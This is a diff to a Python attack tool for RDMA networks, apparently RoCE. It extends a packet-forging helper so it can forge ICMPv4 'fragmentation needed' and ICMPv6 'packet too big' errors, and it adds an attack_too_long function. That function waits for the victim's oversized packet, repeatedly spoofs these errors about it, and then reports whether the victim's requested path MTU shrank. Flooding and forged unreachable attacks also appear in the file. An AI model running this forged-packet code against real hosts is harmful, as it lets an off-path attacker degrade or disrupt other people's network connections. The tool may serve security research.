@@ -96,15 +96,15 @@ def req(port, src, dst, header, guid=5, qpn=None, comm_id=None, timeout=20, retr
     return mad(REQ, body.ljust(140, b"\0") + header)
 
 
-def icmp_error(dmac, src, dst, quoted):
-    """From anybody: port unreachable, about this packet (RFC 792, RFC 4443)."""
+def icmp_error(dmac, src, dst, quoted, mtu=0):
+    """From anybody: port unreachable, or too long for a hop with that MTU, about this packet (RFC 792, RFC 4443)."""
     if len(src) == 4:
-        message = b"\3\3\0\0" + bytes(4) + quoted
+        message = (b"\3\4\0\0" if mtu else b"\3\3\0\0") + struct.pack("!I", mtu) + quoted
         message += bytes(len(message) % 2)
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(message), 0, 0, 64, 1, 0, src, dst)
         ip, sums = ip[:10] + checksum(ip) + ip[12:], message
     else:
-        message = b"\1\4\0\0" + bytes(4) + quoted
+        message = (b"\2\0\0\0" if mtu else b"\1\4\0\0") + struct.pack("!I", mtu) + quoted
         message += bytes(len(message) % 2)
         ip = struct.pack("!IHBB16s16s", 6 << 28, len(message), 58, 64, src, dst)
         sums = src + dst + struct.pack("!II", len(message), 58) + message
@@ -244,6 +244,33 @@ def attack_unreachable(wire, victim, peer):
     print("it asks again")
     head, rest = seen
     wire.s.send(icmp_error(wire.dmac, dst, src, head + rest[:200]))
+
+
+def path_mtu_of_request(wire, dst):
+    """What the next request of the victim's asks for, in bytes."""
+    seen = wait_for_request(wire, dst, 20)
+    if not seen:
+        sys.exit("nobody asks for a connection")
+    print("asked for %d" % (128 << (seen[1][20 + 24 + 50] >> 4)), flush=True)
+
+
+def attack_too_long(wire, victim, peer, mtu, times=20):
+    """Says for a while, as somebody who knows addresses and ports, that packets of the victim's are too long for a hop. Shows what requests
+    before and after that ask for."""
+    src, dst = address(victim), address(peer)
+    path_mtu_of_request(wire, dst)
+    for theirs, _, to, p in wire.packets(20):
+        if theirs and to == dst and len(p) > int(mtu):
+            break
+    else:
+        sys.exit("no long packet was seen")
+    head, guess = wire.ip[:(20 if len(dst) == 4 else 40) + 8], bth(p[0], 0x123456, 0x654321) + p[12:500]
+    for _ in range(int(times)):
+        for quoted in (head, head + guess[:12], head + guess):
+            wire.s.send(icmp_error(wire.dmac, dst, src, quoted, mtu=int(mtu)))
+        time.sleep(0.02)
+    print("forged", flush=True)
+    path_mtu_of_request(wire, dst)
 
 
 def attack_flood(wire, victim, ports, seconds, hosts):
